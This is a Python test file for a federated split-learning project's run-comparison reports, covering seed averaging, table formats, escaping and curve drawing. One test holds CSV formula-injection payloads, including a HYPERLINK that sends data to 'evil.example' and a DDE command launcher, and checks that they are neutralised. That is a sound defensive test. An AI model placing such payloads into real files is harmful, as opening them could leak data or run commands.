"""Runs side by side: grouped by what differs, seeds averaged, kinds of accuracy kept apart."""

from __future__ import annotations

import csv
import io
import re
import statistics
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from flwr_splitmix.runs import Row, Run, RunError
from flwr_splitmix.runs.reports.comparison import compare, mean_and_deviation
from flwr_splitmix.runs.reports.curves import curve_of, draw_curves
from flwr_splitmix.runs.reports.differences import differing, in_words
from flwr_splitmix.runs.reports.page import page
from flwr_splitmix.runs.reports.tables import as_csv, as_latex, as_markdown, tabulate
from flwr_splitmix.runs.selection import select


def finished_run(home: Path, accuracies: list[float], kind: str = "central", **config: Any) -> Run:
    run = Run.create({"strategy": "PSL", **config}, name="x", home=home)
    for number, accuracy in enumerate(accuracies, 1):
        run.append_round(
            {
                "round": number, "accuracy": accuracy, "accuracy_kind": kind, "loss": 1.0,
                "seconds": 2.0, "uplink_bytes": 10**6, "downlink_bytes": 10**6, "steps": 1,
                "uplink_bytes_psl": 10**6,
            }
        )  # fmt: skip
    run.write_summary(
        {"top1": accuracies[-1], "evaluation": kind, "evaluated_round": len(accuracies),
         "uplink_bytes": 10**6 * len(accuracies), "seed": config.get("seed", 0)}
    )  # fmt: skip
    return run


def test_the_side_of_a_cell_makes_a_difference_and_the_name_of_an_experiments_cell_none() -> None:
    """Runs whose feature maps are cut otherwise are not averaged as seeds of one."""
    assert differing([{"cell": 1}, {"cell": 4}]) == ["cell"]
    assert differing([{"cell": "psl-s0-1f0c"}, {"cell": "psl-s1-9a2b"}]) == []


def test_keys_differ_where_the_runs_that_have_them_do() -> None:
    configs = [
        {"strategy": "PSL", "lr": 0.1, "seed": 0, "same": [1]},
        {"strategy": "CutMixSL", "lr": 0.1, "k": 2, "seed": 1, "same": [1]},
        {"strategy": "CutMixSL", "lr": 0.1, "k": 3, "seed": 2, "same": [1], "new": True},
    ]
    assert differing(configs) == ["strategy", "k", "seed"]
    assert differing(configs, {"seed"}) == ["strategy", "k"]
    assert in_words(configs[2], ["strategy", "k", "new"]) == "CutMixSL, k 3, new true"


def test_runs_that_differ_in_seed_and_place_alone_are_one_group(tmp_path: Path) -> None:
    seeds = [
        finished_run(tmp_path, [a], seed=s, device=f"cuda:{s}")
        for s, a in enumerate((0.5, 0.6, 0.8))
    ]
    other = finished_run(tmp_path, [0.9], strategy="SFL", seed=0, device="cpu")
    comparison = compare([*seeds, other])
    first, second = comparison.groups
    assert comparison.keys == ("strategy",)
    assert [group.name for group in comparison.groups] == ["PSL", "SFL"]
    assert [run.id for run in first.runs] == [run.id for run in seeds]
    mean, deviation = mean_and_deviation(first.numbers("top1"))
    assert mean == pytest.approx(19 / 30)
    assert deviation == pytest.approx(statistics.stdev([0.5, 0.6, 0.8]))
    assert mean_and_deviation(second.numbers("top1")) == (0.9, None)
    assert any("device differ" in note for note in comparison.notes)


def test_runs_of_several_versions_are_noted(tmp_path: Path) -> None:
    """They are not averaged without a word."""
    runs = [finished_run(tmp_path, [0.5], seed=seed) for seed in range(4)]
    for run, version in zip(runs, ("0.1.0", "0.2.0", "0.2.0"), strict=False):
        versions = {"flwr-splitmix": version, "torch": "2.4.0", "flwr": version}
        run.write_summary({**(run.summary or {}), "versions": versions})
    note = "They were made by several versions: flwr-splitmix 0.1.0 and 0.2.0."
    assert note in compare(runs).notes
    assert not any("versions" in text for text in compare(runs[1:]).notes)


@pytest.mark.parametrize(
    ("epsilons", "shown"),
    [
        ([0.0042], "0.0042"), ([204.553], "204.6"), ([204.51], "204.6"), ([8.1], "8.1"),
        ([123456.0], "1.235e+05"), ([2.3, 2.3], "2.3 ± 0"), ([1.0, 2.0], "1.5 ± 0.71"),
        ([float("inf"), 1.0], "inf"),
    ],
    ids=str,
)  # fmt: skip
def test_an_epsilon_is_not_shown_below_its_bound(
    epsilons: list[float], shown: str, tmp_path: Path
) -> None:
    """One of 0.0042 is not 0.00, and one of 204.553 not 204.55."""
    runs = [finished_run(tmp_path, [0.5], seed=seed) for seed in range(len(epsilons))]
    for run, epsilon in zip(runs, epsilons, strict=True):
        run.write_summary({**(run.summary or {}), "epsilon": epsilon})
    table = tabulate(compare(runs))
    (row,) = table.rows()
    assert dict(zip(table.headings(), row, strict=True))["epsilon"] == shown


def test_kinds_of_accuracy_are_not_mixed_silently(tmp_path: Path) -> None:
    runs = [finished_run(tmp_path, [0.5], "central"), finished_run(tmp_path, [0.6], "benchmark")]
    with pytest.raises(RunError, match=rf"{runs[0].id} has 'central' and {runs[1].id} has 'ben"):
        compare(runs)
    table = tabulate(compare(runs, mix_kinds=True))
    assert "accuracy" in table.headings()
    assert [row[2] for row in table.rows()] == ["central, benchmark"]


def test_a_seed_that_occurs_twice_and_a_run_in_progress_are_said(tmp_path: Path) -> None:
    runs = [finished_run(tmp_path, [0.5], seed=0), finished_run(tmp_path, [0.5, 0.6], seed=0)]
    with runs[1].held():
        (runs[1].path / "summary.json").unlink()
        notes = " ".join(compare(runs).notes)
    assert "more than one run of seed 0" in notes
    assert f"{runs[1].id} has not finished (running)" in notes
    assert "last evaluated in different rounds" in notes


def test_a_label_means_all_runs_that_have_it(toy_home: Path) -> None:
    runs = {run.id: run for run in Run.all(toy_home)}
    mixed = [run for run in runs if runs[run].label == "mixed"]
    assert [run.id for run in select(["mixed", mixed[1]], toy_home)] == mixed
    assert [run.label for run in select(["latest"], toy_home)] == ["noisy"]
    with pytest.raises(RunError, match="there is no run 'nosuchrun'"):
        select(["mixed", "nosuchrun"], toy_home)


def test_every_format_has_the_figures_of_the_runs(toy_home: Path) -> None:
    comparison = compare(select(["mixed", "plain"], toy_home))
    accuracies = [float((run.summary or {})["top1"]) for run in comparison.groups[0].runs]
    mean, deviation = statistics.fmean(accuracies), statistics.stdev(accuracies)
    table = tabulate(comparison)
    shown = f"{100 * mean:.1f} ± {100 * deviation:.1f}"
    assert table.rows()[0][:3] == ["CutMixSL", "2", shown]
    assert table.headings()[:3] == ["strategy", "runs", "top-1 (%, federated)"]

    rows = list(csv.DictReader(io.StringIO(as_csv(table))))
    assert float(rows[0]["top1"]) == mean
    assert float(rows[0]["top1_deviation"]) == deviation
    assert (rows[1]["strategy"], rows[1]["runs"], rows[1]["top1_deviation"]) == ("PSL", "1", "")

    markdown = as_markdown(table).splitlines()
    assert len({line.count("|") for line in markdown}) == 1
    assert shown in markdown[2]

    latex = as_latex(table)
    assert rf"CutMixSL & 2 & {100 * mean:.1f} $\pm$ {100 * deviation:.1f} &" in latex
    assert r"top-1 (\%, federated)" in latex
    rules = re.findall(r"^\\(\w+rule|begin|end)", latex, re.M)
    assert rules == ["begin", "toprule", "midrule", "bottomrule", "end"]
    columns = re.match(r"\\begin{tabular}{(\w+)}", latex)
    assert columns is not None
    assert all(line.count(" & ") == len(columns[1]) - 1 for line in latex.splitlines()[2:3])


def test_no_two_columns_of_a_csv_have_one_name(tmp_path: Path) -> None:
    """Readers would lose a key that differs if it had the name of the column beside it."""
    keys = ("evaluation", "runs", "accuracy_kind", "top1")
    runs = [finished_run(tmp_path, [0.5], **dict.fromkeys(keys, value)) for value in ("one", "two")]
    table = tabulate(compare(runs))
    header, *lines = csv.reader(io.StringIO(as_csv(table)))
    assert len(set(header)) == len(header)
    assert {dict(zip(header, line, strict=True))["evaluation"] for line in lines} == {"one", "two"}
    assert {dict(zip(header, line, strict=True))["runs"] for line in lines} == {"1"}
    assert "runs (key)" in header


def test_a_spreadsheet_executes_no_cell_of_a_csv(tmp_path: Path) -> None:
    """A stranger's run could name a data set so that opening the table sends figures away."""
    formulas = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1"]
    names = [*formulas, "-0.5", "+1e3", "-inf", "fashion"]
    runs = [finished_run(tmp_path, [0.5], "=kind", **{"=key": name}) for name in names]
    header, *lines = csv.reader(io.StringIO(as_csv(tabulate(compare(runs)))))
    assert "'=key" in header
    shown = {line[header.index("'=key")] for line in lines}
    assert {'\'=HYPERLINK("http://evil.example/?"&A1)', "-0.5", "+1e3", "-inf"} <= shown
    assert {line[header.index("accuracy_kind")] for line in lines} == {"'=kind"}
    for line in (header, *lines):
        for cell in line:
            assert not cell.startswith(tuple("=@\t\r")), cell
            assert not cell.startswith(("+", "-")) or float(cell)


def test_latex_has_no_character_with_a_meaning_of_its_own(tmp_path: Path) -> None:
    runs = [finished_run(tmp_path, [0.5], dataset=name) for name in ("a_b & 50%", "~{$#^\\}")]
    latex = as_latex(tabulate(compare(runs)))
    assert r"a\_b \& 50\%" in latex
    assert r"\textasciitilde{}\{\$\#\textasciicircum{}\textbackslash{}\}" in latex


def test_runs_of_other_clients_or_strategies_are_no_seeds_of_one(tmp_path: Path) -> None:
    """Runs of 2 and of 4 clients are not averaged, nor scripts' runs of several strategies."""
    of_python = Run.create({"seed": 3}, name="mine", home=tmp_path)
    runs = [*(finished_run(tmp_path, [0.5], seed=seed) for seed in range(3)), of_python]
    facts = [("PSL", 2), ("PSL", 4), ("PSL", 2), ("SFL", 2)]
    for run, (strategy, clients) in zip(runs, facts, strict=True):
        run.write_summary({"top1": 0.5, "strategy": strategy, "clients": clients})
    groups = compare(runs).groups
    assert [group.name for group in groups] == [
        "PSL, clients 2", "PSL, clients 4", "SFL, clients 2"
    ]  # fmt: skip
    assert [len(group.runs) for group in groups] == [2, 1, 1]


def test_a_sample_of_the_clients_may_be_of_another_size(tmp_path: Path) -> None:
    """How many clients have ever trained depends on the draws then."""
    sampled: dict[str, Any] = {"fraction-train": 0.5}
    runs = [finished_run(tmp_path, [0.5], seed=seed, **sampled) for seed in (0, 1)]
    for run, clients in zip(runs, (7, 8), strict=True):
        run.write_summary({"top1": 0.5, "strategy": "PSL", "clients": clients})
    assert len(compare(runs).groups) == 1


@pytest.mark.filterwarnings("error")
@pytest.mark.parametrize("name", ["_Mine", r"$\frac{1$", "costs 3 $ or 5 $"])
def test_a_name_is_drawn_whatever_it_is(name: str, tmp_path: Path) -> None:
    """Matplotlib takes "_Mine" for one to hide, and what is between dollars for a formula."""
    runs = [finished_run(tmp_path, [0.5], strategy=name), finished_run(tmp_path, [0.5])]
    figure = draw_curves(compare(runs), ["rounds"])
    figure.draw_without_rendering()
    shown = [text.get_text().replace(r"\$", "$").strip() for text in figure.legends[0].get_texts()]
    assert name in shown
    assert "<svg" in page(compare(runs))


def test_curves_are_means_over_seeds_at_what_was_sent_by_then(tmp_path: Path) -> None:
    runs = [
        finished_run(tmp_path, [0.1, 0.3], seed=0),
        finished_run(tmp_path, [0.3, 0.5, 0.7], seed=1),
    ]
    (group,) = compare(runs).groups
    rounds, uplink, time = (curve_of(group, over) for over in ("rounds", "uplink", "time"))
    assert rounds.x == (1, 2)
    np.testing.assert_allclose(rounds.y, [20, 40])
    np.testing.assert_allclose(uplink.x, [1, 2])  # MB
    np.testing.assert_allclose(time.x, [2, 4])
    assert rounds.band == "seeds"
    np.testing.assert_allclose(rounds.half_width or (), [statistics.stdev([10, 30])] * 2)


def test_one_run_has_the_band_of_its_clients_if_it_knows_one(tmp_path: Path) -> None:
    run = Run.create({}, name="x", home=tmp_path)
    for number, spread in ((1, 0.05), (2, 0.1)):
        row: Row = {"round": number, "accuracy": 0.5, "accuracy_kind": "benchmark"}
        run.append_round({**row, "accuracy_spread": spread})
    (group,) = compare([run]).groups
    curve = curve_of(group, "rounds")
    assert curve.band == "clients"
    assert curve.half_width == pytest.approx((5, 10))


def test_lines_differ_without_colour(tmp_path: Path) -> None:
    runs = [finished_run(tmp_path, [0.1, 0.2], k=k) for k in range(2, 20)]
    (axes,) = draw_curves(compare(runs), ["rounds"]).axes
    styles = {
        (str(line.get_linestyle()), line.get_marker(), str(getattr(line, "_dash_pattern")))  # noqa: B009
        for line in axes.lines
    }
    assert len(styles) == len(runs)


def test_without_an_evaluation_there_is_nothing_to_draw(tmp_path: Path) -> None:
    run = Run.create({}, name="x", home=tmp_path)
    run.append_round({"round": 1, "loss": 1.0})
    with pytest.raises(RunError, match="no round was evaluated"):
        draw_curves(compare([run]))
